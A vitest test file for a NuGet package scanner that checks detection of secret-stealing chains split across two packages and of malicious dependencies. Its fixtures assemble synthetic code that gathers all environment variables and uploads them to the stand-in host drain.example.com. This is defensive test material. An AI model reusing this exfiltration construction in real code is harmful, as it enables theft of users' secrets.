import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { judgeFacts } from '../../src/cli/judge.js';
import { exitCodeOf } from '../../src/cli/exit.js';
import type { Finding } from '../../src/facts/finding.js';
import type { ScanReport } from '../../src/facts/report.js';
import { headOf, inspectPackage, pickUpsOf } from '../../src/inspect/index.js';
import { heldAgainst } from '../../src/scan/baseline/compare.js';
import { knownOf } from '../../src/scan/baseline/known.js';
import { scanRepository, type ScanOptions } from '../../src/scan/scan-repository.js';
import { assemble, method, type InstructionSpec } from '../kit/cil-assembler/assemble.js';
import { grammars } from '../kit/inspected.js';
import { buildPackage, type PackageText } from '../kit/package-builder.js';
import { sarif } from '../outputs/sarif-log.js';
import { renderMarkdown } from '../../src/outputs/markdown/index.js';
import { renderScan } from '../../src/outputs/terminal/scan.js';
import { Layout, testPackage } from './layout.js';

const corpus = join(import.meta.dirname, '../../corpus/packages');
const tool = { version: '0.0.0', rulesDigest: '0'.repeat(64) };
let folder: string;
beforeEach(() => (folder = mkdtempSync(join(tmpdir(), 'assay-together-'))));
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const use = (...names: string[]): void => {
  for (const name of names) copyFileSync(join(corpus, name), join(folder, name));
};
const put = (text: PackageText): void =>
  writeFileSync(join(folder, `${text.id}.nupkg`), buildPackage(text));

/** Packages that were read to answer what they take from others. */
let asked = 0;

function scan(): Promise<ScanReport> {
  return scanRepository({
    path: folder,
    jobs: 1,
    surroundings: { environment: {}, platform: 'linux', home: folder },
    cacheFolder: undefined,
    ...reading(),
  });
}

/** The whole engine, in this process. */
function reading(): Pick<ScanOptions, 'tool' | 'withReports' | 'judge' | 'openReader'> {
  asked = 0;
  return {
    tool,
    withReports: false,
    judge: judgeFacts,
    openReader: async () => ({
      async read(bytes) {
        const { report } = await inspectPackage(bytes, { tool, grammars });
        return { head: headOf(report), body: '' };
      },
      pickUps(bytes, question) {
        asked++;
        return pickUpsOf(bytes, { tool, grammars }, question);
      },
      async close() {},
    }),
  };
}

const own = async (): Promise<readonly Finding[]> => (await scan()).findings;
const collector = 'inert.diagnostics.context.3.0.2.nupkg';
const drainer = 'inert.diagnostics.transport.3.0.2.nupkg';
const clean = 'inert.sipnet.2.1.0.nupkg';
const payload = 'inert.dependencyinjector.1.4.1.nupkg';

describe('a chain that is split over two packages', () => {
  it('is found where both are, told whole, and blocks', async () => {
    use(collector, drainer);
    const report = await scan();
    const [finding] = report.findings;
    expect(report.findings).toHaveLength(1);
    expect(finding).toMatchObject({ rule: 'steals-secrets', level: 'malicious', chain: 'steal' });
    expect(finding?.message).toMatch(
      /^Inert\.Diagnostics\.Context 3\.0\.2 leaves in .*\.Transport 3\.0\.2 picks up there: /,
    );
    const steps = finding?.flows[1]?.steps ?? [];
    expect([...new Set(steps.map((step) => step.package))]).toEqual([
      'pkg:nuget/Inert.Diagnostics.Context@3.0.2',
      'pkg:nuget/Inert.Diagnostics.Transport@3.0.2',
    ]);
    expect(finding?.flows.map(({ source }) => source.kind).sort()).toEqual([
      'credential-file',
      'environment-all',
    ]);
    expect(finding?.flows[0]?.trigger).toMatchObject({ by: 'itself' });
    expect(report.packages.map(({ decision }) => decision)).toEqual(['hold', 'hold']);
    expect([report.decision, exitCodeOf(report, 'block')]).toEqual(['block', 1]);
  });

  it.each([collector, drainer])('is none where there is only %s', async (name) => {
    use(name);
    expect(await own()).toEqual([]);
  });

  it('is shown to a person, and on a page', async () => {
    use(collector, drainer);
    const report = await scan();
    const placeless = {
      ...report,
      packages: report.packages.map((one) => ({
        ...one,
        context: { ...one.context, artifact: `feed/${one.package.id}.nupkg` },
      })),
    };
    const golden = (name: string): string => join(import.meta.dirname, 'golden', name);
    const screen = { color: false, width: 80 };
    await expect(renderScan(placeless, screen, { all: false })).toMatchFileSnapshot(
      golden('split.txt'),
    );
    await expect(renderMarkdown(placeless, { most: 60_000 })).toMatchFileSnapshot(
      golden('split.md'),
    );
    expect(renderScan(placeless, { ...screen, width: 120 }, { all: false, quiet: true })).toContain(
      'split over two packages (steals-secrets)',
    );
  });

  it('is known to a baseline like any other finding', async () => {
    use(collector, drainer);
    const report = await scan();
    const then = heldAgainst(report, knownOf(report, 'before'));
    expect(then.baseline).toMatchObject({ decision: 'allow', gone: 0 });
    expect(exitCodeOf(then, 'hold')).toBe(0);
    const before = knownOf({ ...report, findings: [] }, 'before');
    expect(exitCodeOf(heldAgainst(report, before), 'hold')).toBe(1);
  });

  it('is a result of SARIF with a flow through both', async () => {
    use(collector, drainer);
    const report = await scan();
    const { results, artifacts } = sarif(report, { root: folder });
    const result = results.find(({ properties }) => 'purls' in properties);
    expect(result).toMatchObject({ ruleId: 'assay/steals-secrets', level: 'error' });
    const flow = result?.codeFlows?.[0]?.threadFlows[0]?.locations ?? [];
    const files = flow.map(({ location }) => {
      const { index = -1 } = location.physicalLocation.artifactLocation;
      const { parentIndex = -1 } = artifacts?.[index] ?? {};
      return artifacts?.[parentIndex]?.location.uri;
    });
    expect([...new Set(files)]).toEqual([collector, drainer]);
    expect(flow.at(-1)?.location.message?.text).toMatch(/^sent in the body/);
    expect(result?.taxa?.map(({ id }) => id)).toContain('T1041');
  });
});

const environment = '[System.Runtime]System.Environment';
const file = '[System.Runtime]System.IO.File';
const everything: InstructionSpec[] = [
  [
    'call',
    method(
      environment,
      'GetEnvironmentVariables',
      '[System.Runtime]System.Collections.IDictionary',
      [],
    ),
  ],
  [
    'callvirt',
    method('[System.Runtime]System.Object', 'ToString', 'string', [], { instance: true }),
  ],
];
const setVariable: InstructionSpec = [
  'call',
  method(environment, 'SetEnvironmentVariable', 'void', ['string', 'string']),
];
const getVariable: InstructionSpec = [
  'call',
  method(environment, 'GetEnvironmentVariable', 'string', ['string']),
];
const writeFile: InstructionSpec = [
  'call',
  method(file, 'WriteAllText', 'void', ['string', 'string']),
];
const readFile: InstructionSpec = ['call', method(file, 'ReadAllText', 'string', ['string'])];
const envSlot: InstructionSpec[] = [['ldstr', 'FIXTURE_SLOT'], getVariable];

/** A class with one public method. */
function library(name: string, body: readonly InstructionSpec[], returns = 'void'): Uint8Array {
  const methods = [{ name: 'Do', returns, body: [...body, ['ret']] as InstructionSpec[] }];
  return assemble({ name, types: [{ name: `${name}.Thing`, methods }] });
}

const client = '[System.Net.WebClient]System.Net.WebClient';

/** Sends what some instructions put onto the stack. */
function drain(from: readonly InstructionSpec[], host = 'drain.example.com'): Uint8Array {
  return library('Drain', [
    ['newobj', method(client, '.ctor', 'void', [], { instance: true })],
    ['ldstr', `https://${host}/in`],
    ...from,
    [
      'callvirt',
      method(client, 'UploadString', 'string', ['string', 'string'], { instance: true }),
    ],
    ['pop'],
  ]);
}

function pair(left: Uint8Array, taken: Uint8Array): void {
  put({ id: 'Collect', files: { 'lib/net8.0/Collect.dll': left } });
  put({
    id: 'Drain',
    dependencies: { Collect: '1.0.0' },
    files: { 'lib/net8.0/Drain.dll': taken },
  });
}

describe('what one package leaves and another one picks up', () => {
  const inVariable = library('Collect', [['ldstr', 'FIXTURE_SLOT'], ...everything, setVariable]);
  const inFile = library('Collect', [['ldstr', '/tmp/fixture/slot.dat'], ...everything, writeFile]);
  const asResult = library('Collect', everything, 'string');
  const collect: InstructionSpec = ['call', method('[Collect]Collect.Thing', 'Do', 'string', [])];

  it.each([
    ['an environment variable', inVariable, envSlot],
    ['a file', inFile, [['ldstr', 'tmp\\fixture\\slot.dat'], readFile] as InstructionSpec[]],
    ['the result of a public member', asResult, [collect]],
  ])('may be in %s', async (_, left, taken) => {
    pair(left, drain(taken));
    expect(await own()).toMatchObject([{ rule: 'steals-secrets', level: 'malicious' }]);
    expect(asked).toBe(1);
  });

  it.each([
    ['another variable', inVariable, [['ldstr', 'OTHER_SLOT'], getVariable] as InstructionSpec[]],
    ['another file', inFile, [['ldstr', '/tmp/fixture/other.dat'], readFile] as InstructionSpec[]],
    ['nothing of it', inVariable, [...envSlot, ['pop'], ['ldstr', 'hello']] as InstructionSpec[]],
  ])('is no chain where %s is sent', async (_, left, taken) => {
    pair(left, drain(taken));
    expect(await own()).toEqual([]);
  });

  it('is found in packages of one project that do not need each other', async () => {
    const layout = new Layout();
    const [a, b, c] = [
      testPackage('Collect', '1.0.0', { 'lib/net8.0/Collect.dll': inVariable }),
      testPackage('Drain', '1.0.0', { 'lib/net8.0/Drain.dll': drain(envSlot) }),
      testPackage('Other', '1.0.0', { 'lib/net8.0/Drain.dll': drain(envSlot) }),
    ];
    for (const each of [a, b, c]) layout.install(each);
    layout.lock('App', [a, b]);
    layout.lock('Apart', [c]);
    const { findings } = await layout.scan(reading());
    layout.remove();
    expect(findings.map(({ message }) => message.split(':')[0])).toEqual([
      'Collect 1.0.0 leaves in the environment variable fixture_slot what Drain 1.0.0 picks up there',
    ]);
  });

  it('costs nothing where nothing is left', async () => {
    pair(
      library('Collect', [['ldstr', 'FIXTURE_SLOT'], ['ldstr', 'x'], setVariable]),
      drain(envSlot),
    );
    expect(await own()).toEqual([]);
    expect(asked).toBe(0);
  });
});

describe('a package that brings in a malicious one', () => {
  it('is told with the frameworks that get it, and those that do not', async () => {
    use(clean, payload);
    const report = await scan();
    expect(report.findings).toMatchObject([
      {
        rule: 'brings-in-malicious',
        level: 'malicious',
        targetFrameworks: ['net8.0', 'net10.0'],
        evidence: [
          { package: 'pkg:nuget/Inert.SipNet@2.1.0', location: { path: 'Inert.SipNet.nuspec' } },
        ],
      },
    ]);
    expect(report.findings[0]?.message).toContain('and not for netstandard2.0');
    expect(report.packages.find(({ package: p }) => p.id === 'Inert.SipNet')?.decision).toBe(
      'allow',
    );
  });

  it('is not told where it gets another version, or none', async () => {
    use(clean, 'inert.dependencyinjector.1.3.0.nupkg');
    expect(await own()).toEqual([]);
  });
});
